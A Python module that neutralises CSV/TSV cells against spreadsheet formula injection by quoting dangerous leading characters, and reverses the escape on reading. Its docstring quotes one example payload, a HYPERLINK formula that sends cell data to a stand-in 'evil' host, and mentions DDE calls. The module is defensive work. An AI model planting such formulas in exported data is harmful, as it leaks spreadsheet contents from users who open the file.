"""CSV/TSV cells that a spreadsheet will not run as formulas (CSV injection), and reading them back.

Spreadsheets (Excel, LibreOffice, Google Sheets) treat a cell that starts with ``=``, ``+``,
``-`` or ``@`` as a formula, and some strip a leading tab, carriage return or line feed first.
A night id taken from a file name, a site name from a metadata table or an error message that
quotes a channel label can therefore carry ``=HYPERLINK("http://evil/?"&A1,"click")`` or a DDE
call into a CSV the project writes. Every CSV the project writes goes through :func:`to_csv`
(or :func:`neutralise_frame` / :func:`neutralise_cell`), which puts a single quote ``'`` before
such a *text* cell: the spreadsheet shows it as text. Numbers are left alone: numeric columns,
and text cells that are a plain decimal number (``-5``, ``+1.5``, ``-2e3``), which a
spreadsheet reads as a number, never as a formula.

The escape is reversible: a text cell matching ``'+[=+\\-@\\t\\r\\n]`` (one or more quotes, then
a dangerous character) gets one more quote on writing, and :func:`unneutralise_cell` removes
exactly one from such a cell on reading, so ``=1+2`` -> ``'=1+2`` -> ``=1+2`` and
``'=1+2`` -> ``''=1+2`` -> ``'=1+2``; any other cell is written and read unchanged. The
project's readers of files it wrote itself (the cohort store's ``manifest.csv``, metadata and
night-head tables, experiment tables) use :func:`read_csv` or :func:`unneutralise_frame`.

Examples
--------
>>> neutralise_cell("=1+2"), neutralise_cell("-2+3"), neutralise_cell("-5"), neutralise_cell(-5)
("'=1+2", "'-2+3", '-5', -5)
>>> unneutralise_cell(neutralise_cell("@SUM(1+1)"))
'@SUM(1+1)'
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import pandas as pd

__all__ = [
    "DANGEROUS_FIRST",
    "csv_text",
    "is_dangerous",
    "neutralise_cell",
    "neutralise_frame",
    "neutralise_row",
    "read_csv",
    "rows_csv",
    "to_csv",
    "unneutralise_cell",
    "unneutralise_frame",
]

DANGEROUS_FIRST = "=+-@\t\r\n"
"""First characters that make a spreadsheet evaluate (or trim towards) a formula."""

_NEEDS_QUOTE = re.compile(r"'*[=+\-@\t\r\n]")  # match() anchors at the start
_WAS_QUOTED = re.compile(r"'+[=+\-@\t\r\n]")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def is_dangerous(text: str) -> bool:
    """True when a spreadsheet could read ``text`` as a formula (and it is not a plain number)."""
    return bool(_NEEDS_QUOTE.match(text)) and not _PLAIN_NUMBER.fullmatch(text)


def neutralise_cell(value: Any) -> Any:
    """``value`` with a ``'`` in front when it is text a spreadsheet would run; else unchanged."""
    if isinstance(value, str) and value and is_dangerous(value):
        return "'" + value
    return value


def unneutralise_cell(value: Any) -> Any:
    """Undo :func:`neutralise_cell` on a cell read back from a CSV the project wrote."""
    if isinstance(value, str) and _WAS_QUOTED.match(value):
        return value[1:]
    return value


def _text_like(series: pd.Series) -> bool:
    dtype = series.dtype
    if isinstance(dtype, pd.CategoricalDtype):
        return True
    return not (pd.api.types.is_numeric_dtype(dtype) or pd.api.types.is_datetime64_any_dtype(dtype)
                or pd.api.types.is_timedelta64_dtype(dtype) or isinstance(dtype, pd.PeriodDtype))


def _map_labels(labels: pd.Index, fn) -> pd.Index:
    """Labels (and their names: the index name heads the index column) mapped by ``fn``."""
    names = [fn(n) for n in labels.names]
    if isinstance(labels, pd.MultiIndex):
        return pd.MultiIndex.from_tuples([tuple(fn(v) for v in t) for t in labels], names=names)
    if not _text_like(labels.to_series()):
        return labels.rename(names[0])
    return pd.Index([fn(v) for v in labels], name=names[0], dtype=object if labels.dtype == object else None)


def _map_frame(frame: pd.DataFrame, fn) -> pd.DataFrame:
    out = frame.copy()
    for i in range(out.shape[1]):
        col = out.iloc[:, i]
        if not _text_like(col):
            continue
        if isinstance(col.dtype, pd.CategoricalDtype):
            col = col.astype(object)
        values = col.tolist()
        try:  # map each distinct text once: a predictions table repeats a few ids a million times
            changed = {v: fn(v) for v in set(values) if isinstance(v, str)}
        except TypeError:  # unhashable cells (lists): map them one by one
            changed = None
        if changed is not None:
            changed = {k: v for k, v in changed.items() if v != k}
            if not changed:
                continue
            mapped = [changed.get(v, v) if isinstance(v, str) else v for v in values]
        else:
            mapped = [fn(v) for v in values]
            if mapped == values:
                continue
        out.isetitem(i, pd.Series(mapped, index=out.index, dtype=col.dtype))
    out.columns = _map_labels(out.columns, fn)
    out.index = _map_labels(out.index, fn)
    return out


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells, column names and index labels are neutralised."""
    return _map_frame(frame, neutralise_cell)


def unneutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with :func:`neutralise_frame` undone (for CSVs the project wrote)."""
    return _map_frame(frame, unneutralise_cell)


def to_csv(frame: pd.DataFrame, path_or_buf: str | Path | Any = None, **kwargs: Any) -> str | None:
    """``frame.to_csv(path_or_buf, **kwargs)`` with every text cell neutralised first.

    Use it for every CSV or TSV (``sep="\\t"``) the project writes. With ``path_or_buf=None``
    the CSV text is returned, as pandas does. pandas leaves a cell holding a carriage return
    unquoted (only the line terminator's characters are quoted), which splits the row for
    every reader; such a frame is written with every text cell quoted (``QUOTE_NONNUMERIC``).
    """
    safe = neutralise_frame(frame)
    if "quoting" not in kwargs and _has_carriage_return(safe):
        kwargs["quoting"] = csv.QUOTE_NONNUMERIC
    return safe.to_csv(path_or_buf, **kwargs)


def _distinct(values: list) -> Iterable[Any]:
    try:
        return set(values)
    except TypeError:  # unhashable cells
        return values


def _has_carriage_return(frame: pd.DataFrame) -> bool:
    labels = [*frame.columns, *frame.index]
    if any(isinstance(v, str) and "\r" in v for v in labels):
        return True
    for i in range(frame.shape[1]):
        col = frame.iloc[:, i]
        if _text_like(col) and any(isinstance(v, str) and "\r" in v for v in _distinct(col.tolist())):
            return True
    return False


def csv_text(frame: pd.DataFrame, **kwargs: Any) -> str:
    """The neutralised CSV text of ``frame`` (``index=False`` unless given), e.g. for a download."""
    kwargs.setdefault("index", False)
    return to_csv(frame, None, **kwargs)


def neutralise_row(row: Iterable[Any]) -> list[Any]:
    """One row for :func:`csv.writer`, neutralised (also for hand-built CSV text)."""
    return [neutralise_cell(v) for v in row]


def read_csv(path_or_buf: str | Path | Any, **kwargs: Any) -> pd.DataFrame:
    """``pandas.read_csv`` of a CSV the project wrote, with the neutralising quote removed."""
    return unneutralise_frame(pd.read_csv(path_or_buf, **kwargs))


def rows_csv(rows: Iterable[Iterable[Any]], delimiter: str = ",") -> str:
    """Rows (the first one may be the header) as neutralised CSV text, for hand-built CSVs."""
    safe = [neutralise_row(row) for row in rows]
    carriage_return = any(isinstance(v, str) and "\r" in v for row in safe for v in row)
    buf = io.StringIO()
    writer = csv.writer(buf, delimiter=delimiter, lineterminator="\n",
                        quoting=csv.QUOTE_NONNUMERIC if carriage_return else csv.QUOTE_MINIMAL)
    writer.writerows(safe)
    return buf.getvalue()
